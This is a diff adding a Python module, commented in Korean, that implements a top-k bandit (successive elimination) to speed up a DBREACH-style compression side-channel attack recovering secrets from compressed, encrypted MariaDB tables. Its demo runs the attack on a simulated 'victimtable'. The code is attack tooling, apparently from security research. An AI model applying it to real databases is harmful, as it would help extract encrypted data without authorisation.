@@ -0,0 +1,211 @@
+# top_k_bandit.py
+"""
+top-k 식별 밴딧: 후보마다 고정 횟수 반복하는 대신, 아직 결정 경계에 걸친 후보만 다시 측정.
+
+알고리즘: successive elimination(Even-Dar et al. 2006의 top-k 변형).
+  - 라운드 = setUp(filler 재세팅) 1회 + 활성 후보 전원 1회 측정(bytesShrunk).
+    같은 세팅에서 반복 측정은 거의 결정적이라 정보가 없고, 분산은 세팅(경계 위치/filler)에서 온다.
+    → LUCB처럼 후보 두 개만 찍는 대신, 라운드마다 활성 후보를 모두 찍고
+      라운드 평균을 빼서(centering) 세팅별 기준선 이동을 상쇄한다.
+  - r라운드 후 반경 c = sigma * sqrt(2 ln(4 n r^2 / delta) / r)의 신뢰구간으로
+      accept: UCB_i < LCB_j 인 j가 (활성 수 - 남은 자리) 개 이상
+      reject: LCB_i > UCB_j 인 j가 남은 자리 수 이상
+    bytesShrunk는 작을수록 좋은 후보(점수 = 1/bytes).
+  - sigma는 잔차의 합동 표준편차(min_sigma 하한).
+
+사용:
+    bandit = TopKBanditAttacker(k, dbreach, guesses)
+    bandit.run()
+    bandit.getTopKGuesses(), bandit.report()
+"""
+import math
+import dbreacher
+
+
+class TopKBanditAttacker():
+    def __init__(self, k, dbreacher: dbreacher.DBREACHer, guesses, delta: float = 0.05,
+                 max_rounds: int = 30, min_sigma: float = 1.0):
+        self.k = k
+        self.n = len(guesses)
+        self.guesses = list(guesses)
+        self.dbreacher = dbreacher
+        self.delta = delta
+        self.max_rounds = max_rounds
+        self.min_sigma = min_sigma
+        self.reset()
+
+    def reset(self):
+        self.active = list(self.guesses)
+        self.accepted = []
+        self.rejected = []
+        self.sums = {g: 0.0 for g in self.guesses}      # 센터링한 값의 합
+        self.sqsums = {g: 0.0 for g in self.guesses}
+        self.rawSums = {g: 0.0 for g in self.guesses}   # 원래 bytesShrunk 합(점수용)
+        self.counts = {g: 0 for g in self.guesses}
+        self.rounds = 0
+        self.measurements = 0
+        self.setups = 0
+        self.resolved = False
+
+    @property
+    def done(self) -> bool:
+        return len(self.accepted) >= self.k or not self.active or self.rounds >= self.max_rounds
+
+    def setUp(self) -> bool:
+        self.setups += 1
+        return self.dbreacher.reinsertFillers()
+
+    def _measure(self, guess):
+        if self.dbreacher.insertGuessAndCheckIfShrunk(guess):
+            return None
+        try:
+            self.dbreacher.amplifyUntilShrunk()
+        except RuntimeError:
+            return None
+        return self.dbreacher.getBytesShrunkForCurrentGuess()
+
+    def tryAllGuesses(self, verbose=False) -> bool:
+        """활성 후보 전원을 한 번씩 측정(한 라운드). 세팅이 깨지면 라운드를 버리고 False."""
+        values = {}
+        for guess in self.active:
+            b = self._measure(guess)
+            self.measurements += 1
+            if b is None:
+                if verbose:
+                    print("setup broken on guess " + guess)
+                return False
+            values[guess] = b
+        center = sum(values.values()) / len(values)
+        for guess, b in values.items():
+            x = b - center
+            self.sums[guess] += x
+            self.sqsums[guess] += x * x
+            self.rawSums[guess] += b
+            self.counts[guess] += 1
+        self.rounds += 1
+        self._eliminate()
+        if verbose:
+            print(f"round {self.rounds}: active={len(self.active)} accepted={len(self.accepted)} "
+                  f"radius={self._radius():.2f}")
+        return True
+
+    def _mean(self, g):
+        return self.sums[g] / self.counts[g]
+
+    def _sigma(self):
+        ss, dof = 0.0, 0
+        for g in self.active:
+            c = self.counts[g]
+            if c > 1:
+                ss += self.sqsums[g] - self.sums[g] ** 2 / c
+                dof += c - 1
+        if dof == 0:
+            return self.min_sigma
+        return max(self.min_sigma, math.sqrt(max(0.0, ss) / dof))
+
+    def _radius(self, r=None, delta=None):
+        r = r or self.rounds
+        delta = delta or self.delta
+        if r < 2:
+            return float("inf")
+        return self._sigma() * math.sqrt(2.0 * math.log(4.0 * self.n * r * r / delta) / r)
+
+    def _eliminate(self):
+        c = self._radius()
+        if math.isinf(c):
+            return
+        slots = self.k - len(self.accepted)
+        bounds = {g: (self._mean(g) - c, self._mean(g) + c) for g in self.active}
+        accept, reject = [], []
+        for g in self.active:
+            lcb, ucb = bounds[g]
+            beats = sum(1 for h in self.active if h != g and ucb < bounds[h][0])
+            beaten = sum(1 for h in self.active if h != g and lcb > bounds[h][1])
+            if beats >= len(self.active) - slots:
+                accept.append(g)
+            elif beaten >= slots:
+                reject.append(g)
+        accept.sort(key=self._mean)
+        self.accepted += accept[:slots]
+        self.rejected += reject + accept[slots:]
+        decided = set(self.accepted) | set(self.rejected)
+        self.active = [g for g in self.active if g not in decided]
+        if len(self.accepted) >= self.k:
+            self.rejected += self.active
+            self.active = []
+        elif len(self.active) <= self.k - len(self.accepted):
+            self.accepted += sorted(self.active, key=self._mean)
+            self.active = []
+        self.resolved = not self.active
+
+    def run(self, max_setup_attempts: int = 1000, verbose=False) -> bool:
+        """done이 될 때까지 setUp + 라운드 반복. 라운드를 끝냈으면 True."""
+        attempts = 0
+        while not self.done and attempts < max_setup_attempts:
+            attempts += 1
+            if not self.setUp():
+                continue
+            self.tryAllGuesses(verbose)
+        return self.done
+
+    def getTopKGuesses(self):
+        """[(1/평균 bytesShrunk, guess)]: 확정된 후보 먼저, 남은 자리는 활성 후보 중 평균이 좋은 순."""
+        pending = sorted((g for g in self.active if self.counts[g]), key=self._mean)
+        winners = (self.accepted + pending)[:self.k]
+        return [(self.counts[g] / self.rawSums[g], g) for g in winners]
+
+    def confidence(self) -> float:
+        """
+        top-k/나머지 분리의 신뢰도. 소거로 전부 결정됐으면 1-delta,
+        max_rounds로 끝났으면 남은 경계(k번째/k+1번째 평균 차)가 2c가 되는 delta'로 1-delta'.
+        """
+        if self.resolved:
+            return 1.0 - self.delta
+        if self.rounds < 2:
+            return 0.0
+        slots = self.k - len(self.accepted)
+        pending = sorted(self.active, key=self._mean)
+        gap = self._mean(pending[slots]) - self._mean(pending[slots - 1])
+        sigma, r = self._sigma(), self.rounds
+        delta_hat = 4.0 * self.n * r * r * math.exp(-r * gap * gap / (8.0 * sigma * sigma))
+        return max(0.0, 1.0 - delta_hat)
+
+    def report(self) -> dict:
+        return {
+            "rounds": self.rounds,
+            "setups": self.setups,
+            "measurements": self.measurements,
+            "uniform_equivalent": self.rounds * self.n,
+            "accepted": len(self.accepted),
+            "active": len(self.active),
+            "confidence": round(self.confidence(), 4),
+            "max_count": max(self.counts.values()) if self.counts else 0,
+        }
+
+
+if __name__ == "__main__":
+    # 시뮬레이터: 후보 40개 중 비밀 1개 식별, 균일 반복(라운드마다 전원 측정) 대비 측정 수 비교
+    import random
+    import string
+    import dbreacher_impl
+    from utils.simulated_mariadb import SimulatedMariaDBController
+
+    fillerCharSet = string.printable.replace(string.ascii_lowercase, '').replace('*', '')
+    hits, used, uniform = 0, 0, 0
+    trials = 5
+    for trial in range(trials):
+        guesses = [''.join(random.choices(string.ascii_lowercase, k=12)) for _ in range(40)]
+        secret = random.choice(guesses)
+        control = SimulatedMariaDBController()
+        control.drop_table("victimtable")
+        control.create_basic_table("victimtable", varchar_len=200, compressed=True, encrypted=True)
+        control.insert_row("victimtable", 0, secret)
+        dbreach = dbreacher_impl.DBREACHerImpl(control, "victimtable", 1, 200, fillerCharSet, ord('*'))
+        bandit = TopKBanditAttacker(1, dbreach, guesses)
+        bandit.run()
+        report = bandit.report()
+        hits += bandit.getTopKGuesses()[0][1] == secret
+        used += report["measurements"]
+        uniform += report["uniform_equivalent"]
+        print(trial, bandit.getTopKGuesses()[0][1] == secret, report)
+    print(f"accuracy {hits}/{trials}, measurements {used} (uniform {uniform})")